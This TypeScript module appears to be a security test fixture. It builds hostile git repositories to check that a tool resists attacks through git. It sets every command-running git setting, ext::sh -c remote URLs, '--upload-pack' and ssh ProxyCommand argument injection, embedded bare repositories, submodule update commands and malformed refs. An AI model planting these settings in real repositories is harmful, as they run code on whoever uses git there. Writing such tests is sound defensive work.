/** Attacks through git itself: embedded repositories, settings, attributes, hooks, submodules and refs. */
import { chmodSync, mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type Attack, addSettings, embedBare, type Trap } from './scene.ts';

/** Settings of a repository that name a command; git executes the command of each of them. */
const COMMAND_SETTINGS = (command: string): Readonly<Record<string, string>> => ({
  'core.fsmonitor': command,
  'core.sshCommand': command,
  'core.gitProxy': command,
  'core.askPass': command,
  'core.pager': command,
  'core.editor': command,
  'core.alternateRefsCommand': command,
  'credential.helper': `!${command}`,
  'diff.external': command,
  'diff.evil.command': command,
  'diff.evil.textconv': command,
  'filter.evil.clean': command,
  'filter.evil.smudge': command,
  'filter.evil.process': command,
  'filter.evil.required': 'true',
  'merge.evil.driver': command,
  'gpg.program': command,
  'commit.gpgSign': 'true',
  'log.showSignature': 'true',
  'pager.status': command,
  'sequence.editor': command,
  'uploadpack.packObjectsHook': command,
  'alias.status': `!${command}`,
  'alias.ls-tree': `!${command}`,
  'remote.origin.uploadpack': command,
  'remote.origin.receivepack': command,
});

const ATTRIBUTES = '* filter=evil diff=evil merge=evil\n[attr]binary filter=evil\n';

function configure({ root }: Trap, settings: Readonly<Record<string, string>>): void {
  addSettings(join(root, '.git/config'), settings);
}

/** A bare repository in the place of the manifests, or below them. */
function embedded(name: string, settings: (trap: Trap) => Record<string, string>, folder = 'manifests'): Attack {
  return {
    name: `embedded bare repository: ${name}`,
    folder,
    set: (trap) => {
      trap.write(`${folder}/.gitattributes`, ATTRIBUTES);
      embedBare(trap, folder, settings(trap));
      trap.commit();
    },
  };
}

const embeddings: readonly Attack[] = [
  embedded('a clean filter over its own work tree', ({ manifests, command }) => ({
    'core.bare': 'false',
    'core.worktree': manifests,
    'filter.evil.clean': command,
    'filter.evil.required': 'true',
  })),
  embedded('a filter process', ({ command }) => ({
    'core.bare': 'false',
    'core.worktree': '.',
    'filter.evil.process': command,
  })),
  embedded('a file system monitor', ({ command }) => ({
    'core.bare': 'false',
    'core.worktree': '.',
    'core.fsmonitor': command,
  })),
  embedded('hooks by path', (trap) => {
    trap.program('manifests/traps/post-index-change');
    trap.program('manifests/traps/reference-transaction');
    return { 'core.bare': 'false', 'core.worktree': '.', 'core.hooksPath': join(trap.manifests, 'traps') };
  }),
  embedded('a work tree that is the whole machine', () => ({ 'core.bare': 'false', 'core.worktree': '/' })),
  embedded('settings included from the tree', (trap) => {
    trap.write('manifests/evil.inc', `[core]\n\tfsmonitor = "${trap.command}"\n`);
    return { 'core.bare': 'false', 'core.worktree': '.', 'include.path': join(trap.manifests, 'evil.inc') };
  }),
  embedded('settings included by condition', (trap) => {
    trap.write('manifests/evil.inc', `[core]\n\tfsmonitor = "${trap.command}"\n`);
    return { 'core.bare': 'false', 'includeIf.gitdir:/**.path': join(trap.manifests, 'evil.inc') };
  }),
  embedded('a lazy fetch by a command', ({ command }) => ({
    'core.repositoryFormatVersion': '1',
    'extensions.partialClone': 'origin',
    'remote.origin.promisor': 'true',
    'remote.origin.url': `ext::sh -c ${command}`,
    'protocol.ext.allow': 'always',
  })),
  embedded('every setting that names a command', ({ command }) => COMMAND_SETTINGS(command)),
  embedded('below the folder, with manifests in it', ({ command }) => COMMAND_SETTINGS(command), 'manifests/sub'),
  {
    name: 'embedded bare repository: objects of another repository',
    set: (trap) => {
      embedBare(trap, 'manifests', {});
      trap.write('manifests/objects/info/alternates', join(trap.root, '../../template/.git/objects\n'));
      trap.commit();
    },
  },
];

/**
 * Content in the place of a repository’s own `.git`: a commit cannot contain it, but an archive or a mounted folder
 * can.
 */
function pointer(name: string, set: (trap: Trap) => void): Attack {
  return { name: `a .git in the folder: ${name}`, set };
}

const pointers: readonly Attack[] = [
  pointer('a file that points into the folder', (trap) => {
    embedBare(trap, 'manifests/evil', { 'core.bare': 'false', ...COMMAND_SETTINGS(trap.command) }, false);
    trap.write('manifests/.git', 'gitdir: evil\n');
  }),
  pointer('a file that points to nothing', (trap) => trap.write('manifests/.git', 'gitdir: /nowhere\n')),
  pointer('a file that is none', (trap) => trap.write('manifests/.git', `${'x'.repeat(100_000)}\n`)),
  pointer('a file whose path ends in a carriage return', (trap) => {
    embedBare(trap, 'manifests/evil\r', COMMAND_SETTINGS(trap.command), false);
    trap.write('manifests/.git', 'gitdir: evil\r\n');
  }),
  pointer('a link into the folder', (trap) => {
    embedBare(trap, 'manifests/evil', { 'core.bare': 'false', ...COMMAND_SETTINGS(trap.command) }, false);
    trap.link('manifests/.git', 'evil');
  }),
  pointer('a repository of its own, with every setting that names a command', (trap) => {
    trap.git('init', '--quiet', '--template=', trap.manifests);
    embedBare(trap, 'manifests/.git', { 'core.bare': 'false', ...COMMAND_SETTINGS(trap.command) }, false);
    trap.write('manifests/.gitattributes', ATTRIBUTES);
  }),
  pointer('an empty folder', (trap) => mkdirSync(join(trap.manifests, '.git'))),
];

/** Commands in the checkout’s own settings, which attributes of a pull request select. */
function setting(name: string, set: (trap: Trap) => void): Attack {
  return {
    name: `settings: ${name}`,
    set: (trap) => {
      trap.write('.gitattributes', ATTRIBUTES);
      trap.write('manifests/.gitattributes', ATTRIBUTES);
      trap.commit();
      set(trap);
      // Changed since the index was written, so that git would have to read the file.
      trap.write('manifests/teams.yaml', 'teams:\n  writers: { title: Authors }\n');
    },
  };
}

const settings: readonly Attack[] = [
  ...['core.fsmonitor', 'filter.evil.clean', 'filter.evil.process', 'diff.external', 'remote.origin.uploadpack'].map(
    (key) => setting(key, (trap) => configure(trap, { [key]: COMMAND_SETTINGS(trap.command)[key] ?? '' })),
  ),
  setting('every one that names a command', (trap) => configure(trap, COMMAND_SETTINGS(trap.command))),
  setting('hooks of the repository', (trap) => {
    for (const hook of ['post-checkout', 'post-index-change', 'pre-commit', 'pre-push', 'reference-transaction']) {
      trap.program(`.git/hooks/${hook}`);
    }
  }),
  setting('hooks by path', (trap) => {
    trap.program('traps/post-index-change');
    configure(trap, { 'core.hooksPath': join(trap.root, 'traps') });
  }),
  setting('attributes of the repository', (trap) => {
    trap.write('.git/info/attributes', ATTRIBUTES);
    configure(trap, { 'filter.evil.clean': trap.command, 'core.attributesFile': join(trap.root, '.gitattributes') });
  }),
  setting('of a work tree’s own', (trap) => {
    configure(trap, { 'core.repositoryFormatVersion': '1', 'extensions.worktreeConfig': 'true' });
    trap.write('.git/config.worktree', `[core]\n\tfsmonitor = "${trap.command}"\n\tsshCommand = "${trap.command}"\n`);
  }),
  setting('a remote that is a command', (trap) =>
    configure(trap, { 'remote.origin.url': `ext::sh -c ${trap.command}`, 'protocol.ext.allow': 'always' }),
  ),
  setting('an address rewritten to a command', (trap) =>
    configure(trap, {
      'remote.origin.url': 'https://git.example/acme.git',
      [`url.ext::sh -c ${trap.command} .insteadOf`]: 'https://git.example/',
      'protocol.allow': 'always',
    }),
  ),
  setting('a transport helper', (trap) =>
    configure(trap, { 'remote.origin.url': 'x', 'remote.origin.vcs': 'ext', 'protocol.ext.allow': 'always' }),
  ),
  setting('an address that is an option', (trap) =>
    configure(trap, { 'remote.origin.url': `--upload-pack=${trap.command}` }),
  ),
  setting('a host that is an option of ssh', (trap) =>
    configure(trap, { 'remote.origin.url': `ssh://-oProxyCommand=${encodeURIComponent(trap.command)}/x` }),
  ),
  setting('an address with a line feed for the credential helper', (trap) =>
    configure(trap, {
      'remote.origin.url': 'https://127.0.0.1:1/x%0ahost=git.example/acme.git',
      'credential.helper': `!${trap.command}`,
    }),
  ),
  setting('a bundle to fetch first', (trap) =>
    configure(trap, { 'fetch.bundleURI': `ext::sh -c ${trap.command}`, 'transfer.bundleURI': 'true' }),
  ),
  setting('objects that a remote would have to give', (trap) => {
    configure(trap, {
      'core.repositoryFormatVersion': '1',
      'extensions.partialClone': 'origin',
      'remote.origin.promisor': 'true',
      'remote.origin.url': `ext::sh -c ${trap.command}`,
      'protocol.ext.allow': 'always',
    });
    const blob = trap.git('rev-parse', 'HEAD~1:manifests/teams.yaml');
    rmSync(join(trap.root, '.git/objects', blob.slice(0, 2), blob.slice(2)), { force: true });
  }),
];

function submodule(name: string, text: (trap: Trap) => string, more: (trap: Trap) => void = () => {}): Attack {
  return {
    name: `submodule: ${name}`,
    set: (trap) => {
      trap.write('.gitmodules', text(trap));
      more(trap);
      trap.commit();
      trap.git('update-index', '--add', '--cacheinfo', `160000,${trap.git('rev-parse', 'HEAD')},manifests/sub`);
      trap.git('commit', '--quiet', '-m', 'Submodule');
    },
  };
}

const SUB = (lines: string) => `[submodule "sub"]\n\tpath = manifests/sub\n${lines}`;

const submodules: readonly Attack[] = [
  submodule('an address that is an option', ({ command }) => SUB(`\turl = --upload-pack=${command}\n`)),
  submodule('an address that is a command', ({ command }) => SUB(`\turl = ext::sh -c ${command}\n`)),
  submodule('an update command', ({ command }) => SUB(`\turl = ./.\n\tupdate = !${command}\n`)),
  submodule('an address with a line feed', () => SUB('\turl = "https://git.example/%0ahost=evil.example"\n')),
  submodule(
    'a path that ends in a carriage return',
    () => '[submodule "sub"]\n\tpath = "manifests/sub\r"\n\turl = ./.\n',
  ),
  submodule(
    'a name that leaves the folder of modules',
    () => '[submodule "../../x"]\n\tpath = manifests/sub\n\turl = ./.\n',
  ),
  submodule(
    'a path behind a link to the hooks',
    () => '[submodule "x"]\n\tpath = manifests/A/hooks\n\turl = ./.\n',
    (trap) => trap.link('manifests/a', '../.git'),
  ),
];

const refs: readonly Attack[] = [
  {
    name: 'refs: a branch and a tag called HEAD and main',
    set: ({ git }) => {
      git('update-ref', 'refs/heads/HEAD', 'HEAD~1');
      git('update-ref', 'refs/tags/main', 'HEAD~1');
    },
  },
  {
    name: 'refs: a replacement of a commit',
    set: ({ git }) => git('replace', 'HEAD', 'HEAD~1'),
  },
  {
    name: 'refs: a branch that begins with a dash',
    set: ({ git, write }) => write('.git/refs/heads/--upload-pack=x', `${git('rev-parse', 'HEAD')}\n`),
  },
  {
    name: 'refs: a HEAD that is a link out of the repository',
    set: ({ root, outside }) => {
      renameSync(join(root, '.git/HEAD'), join(root, '.git/HEAD.old'));
      symlinkSync(outside, join(root, '.git/HEAD'));
    },
  },
  {
    name: 'refs: a HEAD that leads to itself',
    set: ({ write }) => {
      write('.git/HEAD', 'ref: refs/heads/a\n');
      write('.git/refs/heads/a', 'ref: refs/heads/b\n');
      write('.git/refs/heads/b', 'ref: refs/heads/a\n');
    },
  },
  {
    name: 'refs: an index that is none',
    set: ({ root }) => writeFileSync(join(root, '.git/index'), Buffer.alloc(5000, 'DIRC')),
  },
  {
    name: 'refs: a shallow file and grafts that invent parents',
    set: ({ git, write }) => {
      const head = git('rev-parse', 'HEAD');
      write('.git/shallow', `${head}\n`);
      write('.git/info/grafts', `${head} ${'0'.repeat(40)}\n`);
    },
  },
  {
    name: 'refs: a repository that nobody may write to',
    set: ({ root }) => chmodSync(join(root, '.git/objects'), 0o555),
  },
];

/** Attacks through git. */
export const gitAttacks: readonly Attack[] = [...embeddings, ...pointers, ...settings, ...submodules, ...refs];
